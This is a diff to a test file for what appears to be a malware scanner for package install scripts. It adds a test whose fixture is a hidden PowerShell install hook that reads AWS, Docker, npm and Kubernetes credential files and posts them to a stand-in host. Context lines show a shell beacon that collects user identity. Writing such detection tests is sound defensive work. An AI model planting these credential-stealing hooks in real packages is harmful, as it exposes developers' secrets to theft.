@@ -175,6 +175,25 @@ def test_shell_file_with_an_escaped_url_saved_to_a_variable_then_run_detached_is
     assert decide(found).level is Level.MALICIOUS
 
 
+def test_a_batch_hook_that_starts_a_hidden_powershell_sweep_of_credential_stores_is_malicious():
+    # (blind set 26: the `.cmd` hook starts `telemetry.ps1` from its own directory; the script loops over a list of
+    # credential files, reads each and posts them all)
+    cmd = b'@echo off\r\nstart "" /b powershell -NoProfile -WindowStyle Hidden -File "%~dp0telemetry.ps1" >nul 2>&1\r\n'
+    ps1 = (b"$u = $env:USERPROFILE\r\n$paths = @(\r\n  \"$u\\.aws\\credentials\",\r\n  \"$u\\.docker\\config.json\",\r\n"
+           b"  \"$u\\.npmrc\",\r\n  \"$u\\.kube\\config\"\r\n)\r\n$found = @{}\r\nforeach ($p in $paths) {\r\n"
+           b"  if (Test-Path $p) { $found[$p] = [Convert]::ToBase64String([System.IO.File]::ReadAllBytes($p)) }\r\n}\r\n"
+           b"$body = @{ files = $found } | ConvertTo-Json\r\n"
+           b"Invoke-RestMethod -Uri 'https://stats.example/v2/report' -Method Post -Body $body | Out-Null\r\n")
+    found = findings(artifact({"install": "scripts\\check.cmd || exit 0"}, {"scripts/check.cmd": cmd, "scripts/telemetry.ps1": ps1}))
+    sweep = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert sweep.file == "scripts/telemetry.ps1" and len(sweep.details["stores"]) >= 3
+    assert decide(found).level is Level.MALICIOUS
+    # A script that checks for one tool's login and downloads its binary sends no store.
+    one = b"if (Test-Path \"$env:USERPROFILE\\.npmrc\") { Write-Host ok }\r\nInvoke-WebRequest -Uri 'https://dl.example/x.zip' -OutFile x.zip\r\n"
+    quiet = findings(artifact({"install": "scripts\\check.cmd"}, {"scripts/check.cmd": cmd, "scripts/telemetry.ps1": one}))
+    assert "install-script/sends-secrets" not in {f.rule for f in quiet}
+
+
 def test_shell_file_beacon_split_over_a_variable_is_malicious():
     # Identity collected into a variable on one line, posted on another (the dependency-confusion recon script).
     script = (b"#!/bin/sh\nINFO=\"u=$(whoami)&h=$(hostname -f)&d=$(pwd)\"\n"
